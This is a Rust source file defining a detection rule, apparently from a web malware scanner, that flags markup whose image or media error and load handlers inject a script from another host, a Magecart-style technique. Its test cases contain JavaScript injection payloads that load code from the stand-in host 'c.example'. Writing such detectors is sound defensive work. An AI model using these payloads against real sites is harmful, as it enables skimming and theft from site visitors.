//! `script-loaded-by-handler-in-markup`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "script-loaded-by-handler-in-markup",
    description: "The script adds markup that loads another script when its image loads or fails to load.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::ScriptElement]), one(&[Atom::SentAbroad])],
    within: 30,
    only_if: Some(is_in_handler),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"box.innerHTML='<img src=x onerror="var s=document.createElement(\'script\');s.src=\'//c.example/s\';document.body.appendChild(s)">'"#,
        ],
        without: &[
            r#"img.onerror=function(){var s=document.createElement('script');s.src='//c.example/s';document.body.appendChild(s)}"#,
            r#"document.write('<body onload="var s=document.createElement(\'script\');s.src=\'//c.example/s\';document.body.appendChild(s)">')"#,
            r#"document.write('<script src="/a.js" onerror="var s=document.createElement(\'script\');s.src=\'//c.example/s\';document.head.appendChild(s)"></scr'+'ipt>')"#,
            r#"box.innerHTML='<img src="/a.png" onerror="this.src=\'/b.png\'">'"#,
        ],
    },
};

/// Whether the code is in an attribute of a picture or frame that runs it by itself.
fn is_in_handler(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    let Some(item) = near.item(held.last as usize).filter(|item| item.layer > 0) else { return false };
    let first = near.item(held.first as usize);
    if first.is_none_or(|first| first.layer != item.layer || first.start != item.start) {
        return false;
    }
    let source = evidence.stream.source().as_bytes();
    let markup = source.get(item.start as usize..item.end as usize).unwrap_or_default();
    let markup = &markup[..markup.len().min(LONGEST)];
    let loads = [&b"onerror="[..], b"onload=", b"ontoggle=", b"onfocus="];
    loads
        .iter()
        .any(|handler| memchr::memmem::find_iter(markup, handler).any(|at| is_of_media(&markup[..at])))
}

/// Whether markup ends in a tag of something to look at or to fill in. A body loads scripts as a page of its own, and a script that
/// fails may load another one.
fn is_of_media(markup: &[u8]) -> bool {
    let Some(tag) = markup.iter().rposition(|byte| *byte == b'<') else { return false };
    let name = markup[tag + 1..].split(|byte| !byte.is_ascii_alphanumeric()).next().unwrap_or_default();
    markup.last().is_some_and(u8::is_ascii_whitespace)
        && MEDIA.iter().any(|media| name.eq_ignore_ascii_case(media.as_bytes()))
}

const MEDIA: &[&str] = &["img", "image", "svg", "video", "audio", "details", "input", "object", "marquee"];
/// Bytes of markup that are looked at.
const LONGEST: usize = 4096;
